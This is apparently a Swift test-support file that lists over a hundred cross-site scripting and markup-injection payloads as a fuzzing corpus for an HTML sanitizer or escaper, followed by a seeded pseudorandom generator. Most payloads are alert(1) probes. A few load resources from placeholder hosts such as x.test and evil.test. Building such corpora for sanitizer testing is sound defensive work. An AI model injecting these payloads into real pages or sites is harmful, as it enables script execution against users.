/// Texts that execute if they are not escaped or cleaned.
public enum HostileMarkup {
  /// Known ways to run a script, to load or to send something; each in the form in which it was found to work somewhere.
  public static let vectors: [String] = [
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//x.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">", "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' onerror=&#x61;lert(1)>", "<img dynsrc=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='https://user:pass@x.test/'>x</a>", "<a href=x onclick=alert(1)>x</a>",
    "<a href='#\"onclick=alert(1)'>x</a>", "<a href=\"x\" style=\"background:url(x)\">x</a>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<frameset onload=alert(1)><frame src=x></frameset>",
    "<body onload=alert(1)>", "<body background=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'http://x.test/x.css';</style>",
    "<style>body{-moz-binding:url(x)}</style>", "<div style='width:expression(alert(1))'>x</div>",
    "<base href='javascript:alert(1)//'>", "<meta http-equiv=refresh content='0;url=javascript:x'>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
    "<input onfocus=alert(1) autofocus>", "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>", "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>", "<svg onload=alert(1)>", "<svg><script>alert(1)",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<table background=javascript:alert(1)><td>x</table>",
    "<table><img src=x onerror=alert(1)></table>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>", "<noembed><img src=x onerror=alert(1)></noembed>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml ?><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=\"`><img src=x onerror=alert(1)>\">x",
    "<div class='navigation admin bbc-block'>x</div>", "<div id=location name=forms>x</div>",
    "<a name=getElementById>x</a>", "<img name=body src=x>", "<p contenteditable onbeforeinput=x>x",
    "<a href=x ping=//x.test/>x</a>", "<a target=_self href=x>x</a>", "<a download href=x>x</a>",
    "<img srcset='//x.test/a 1x' src=a>",
    "<picture><source srcset=//x.test/a><img src=a></picture>",
    "<input type=image src=//x.test/a>", "<link rel=prefetch href=//x.test/>",
    "<q cite=javascript:alert(1)>x</q>", "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<del cite=javascript:alert(1)>x</del>", "<ol start=1e9><li value=9>x</ol>",
    "<td colspan=99999999>x", "<font color=red face='x\"onload=alert(1)'>x</font>",
    "<dialog open>x</dialog>", "<slot name=x>x</slot>", "<x-element onclick=alert(1)>x</x-element>",
    "<a\u{0C}href=javascript:alert(1)>x</a>", "<img\u{00}src=x onerror=alert(1)>",
    "<a href=\"\u{202E}javascript:alert(1)\">x</a>",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
    "\"\u{301} onfocus=alert(1) autofocus x=\"", "\u{338}><script>alert(1)</script>",
    "</title></textarea></script><script>alert(1)</script>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "{{constructor.constructor('alert(1)')()}}",
    "\r\n\r\ndata: x\n\nevent: insert\ndata: {}\n\n", "\u{0}\u{1B}[2J\u{202E}",
    "</pre></ol></main><script>alert(1)</script>",
    "<a href=//evil.test/%2e%2e/javascript:alert(1)>x</a>",
  ]

  /// Pseudorandom numbers that are the same in each run.
  public struct Dice {
    private var state: UInt64

    /// Makes the dice of a seed.
    public init(seed: UInt64) { state = seed }

    /// A number from 0 to one less than a limit, which is at least 1.
    public mutating func below(_ limit: Int) -> Int {
      state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
      return Int((state >> 33) % UInt64(limit))
    }
  }
}
